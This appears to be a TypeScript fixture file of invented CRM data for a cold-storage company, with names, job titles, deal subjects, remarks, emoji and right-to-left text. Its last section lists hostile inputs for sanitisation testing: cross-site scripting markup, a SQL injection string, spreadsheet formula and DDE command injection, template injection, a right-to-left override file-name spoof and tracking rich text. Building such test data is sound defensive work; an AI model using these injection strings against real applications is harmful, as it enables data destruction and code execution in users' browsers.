const words = (text: string): readonly string[] => text.split(' ');

/** First halves of invented company names. */
export const companyStems = words(
  'Velmora Tarnwick Quillby Ostrava-Lane Pemberlow Zandaro Hollinmoor Brackenfell Ilvaro Cressida Dunmarrow Emberlyn Fenwold Galdora Harrowmead Isenvale Juniperra Kestermill Lorrimund Marrowdale Nettlefold Orrinshaw Pallister Quenby Rookhaven Silverlode Thistledown Umberfield Vantrey Wexholm Yarrowby Zephyrine Aldervane Bellwether Corvina Drumlin Eskdane Farthing Gullmere Heronsgate',
);

/** Second halves: what the customer does. Customers of a cold-storage firm. */
export const companyTrades = [
  'Bakery',
  'Creamery',
  'Seafoods',
  'Pharmacy Group',
  'Greenhouses',
  'Orchards',
  'Catering',
  'Florists',
  'Veterinary Clinics',
  'Chocolatiers',
  'Breweries',
  'Grocers',
  'Blood Bank',
  'Vineyards',
  'Hotels',
  'Food Halls',
  'Laboratories',
  'Ice Cream',
  'Butchers',
  'School Kitchens',
] as const;

/** Job titles. */
export const jobTitles = [
  'Head of Operations',
  'Purchasing Manager',
  'Kitchen Director',
  'Quality Lead',
  'Facilities Manager',
  'Chief Pharmacist',
  'Owner',
  'Supply Chain Analyst',
  'Plant Manager',
  'Finance Controller',
  'Site Engineer',
  'Procurement Officer',
] as const;

/** Departments. */
export const departments = [
  'Operations',
  'Purchasing',
  'Quality',
  'Finance',
  'Facilities',
  'Production',
] as const;

/** What the deals are about. */
export const dealSubjects = [
  'Walk-in cooler',
  'Blast chiller refit',
  'Sensor roll-out',
  'Service contract',
  'Night-time monitoring',
  'Vaccine fridge fleet',
  'Glass-door cabinets',
  'Cold room extension',
  'Compressor exchange',
  'Loading dock seals',
] as const;

/** What there is to do. */
export const taskSubjects = [
  'Call about the offer',
  'Send data sheet',
  'Book a site visit',
  'Check temperature log',
  'Prepare renewal',
  'Confirm delivery date',
  'Ask for floor plan',
  'Follow up on complaint',
  'Update price list',
  'Invite to open day',
] as const;

/** Ordinary remarks, for descriptions. */
export const remarks = [
  'Prefers to be called before noon; the kitchen is loud later on.',
  'Wants two quotes: one for purchase and one for leasing over five years.',
  'The door of the cold room does not close well. Sent a photo.',
  'Has compared us with a cheaper offer, but values the four-hour service promise.',
  'Decision is taken by the board, which meets on the first Tuesday of the month.',
  'Asked whether the sensors also work behind 40 cm of concrete.\nAnswer: yes, with the repeater.',
  'Moves to a larger site next year and would rather wait for the floor plan.',
  'Very happy with the last visit. Good reference for the region.',
] as const;

/** Remarks with what keyboards on telephones add. */
export const emojiRemarks = [
  '🧊❄️ Loves the new ice machine! 👩🏽‍🍳 Team of 12 🎉',
  'Visited on 🗓️ Monday — staff from 🇮🇳🇧🇷🇸🇪. 👨‍👩‍👧‍👦 business. 🏳️‍🌈',
] as const;

/** Remarks that run from right to left, with numbers and Latin words inside. */
export const rightToLeftRemarks = [
  'يفضل الاتصال قبل الظهر، رقم العرض 4711 من Quillmarsh، ويريد التسليم خلال 14 يومًا.',
  'מעדיפה שיחה לפני הצהריים. הצעת מחיר מספר 4711 של Quillmarsh, אספקה תוך 14 יום.',
] as const;

/** A text of about six thousand characters, with line breaks and one word that cannot be wrapped. */
export const longRemark = [
  ...Array.from({ length: 60 }, (_, index) => `${index + 1}. ${remarks[index % remarks.length] ?? ''}`),
  'Serial number of the whole plant: ' + 'QM0123456789'.repeat(40),
].join('\n');

/**
 * Values that attack whoever shows them carelessly: markup, event handlers, a script link, a closing tag,
 * a spreadsheet formula, control and bidirectional characters. They are data; nothing here can do harm by itself.
 */
export const hostileTexts = [
  '<img src=x onerror="document.title=\'owned\'">',
  '"><script>document.title="owned"</script>',
  '=HYPERLINK("http://example.net/?"&A1,"open")',
  "Robert'); DROP TABLE Contacts;--",
  '</textarea><svg onload=document.title="owned">',
  '{{constructor.constructor("document.title=1")()}} ${7*7}',
  'invoice\u202Efdp.exe',
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** Rich text as a customer's mail client would send it, with everything that must not run or load. */
export const hostileRichText =
  '<div onclick="document.title=\'owned\'" style="position:fixed;inset:0;background:url(http://example.net/p.png)">' +
  '<script>document.title="owned"</script><style>body{display:none}</style>' +
  '<a href="javascript:document.title=\'owned\'">offer</a> <a href="https://example.com/offer">real link</a>' +
  '<iframe src="http://example.net/"></iframe><img src="http://example.net/pixel.png" onerror="document.title=1">' +
  '<form action="http://example.net/"><input name="q"><button>Send</button></form>' +
  '<b>Bold stays</b><svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg></div>';

/** Rich text as people write it. */
export const politeRichText = [
  '<p>Met at the <b>open day</b>. Interested in:</p><ul><li>two walk-in coolers</li><li>remote alarms</li></ul>',
  '<p>Agreed on a <i>trial</i> of six weeks, see <a href="https://example.com/trial">terms</a>.</p>',
  '<div>Key figures<br><table><tr><td>Doors</td><td>12</td></tr><tr><td>°C</td><td>−18</td></tr></table></div>',
] as const;
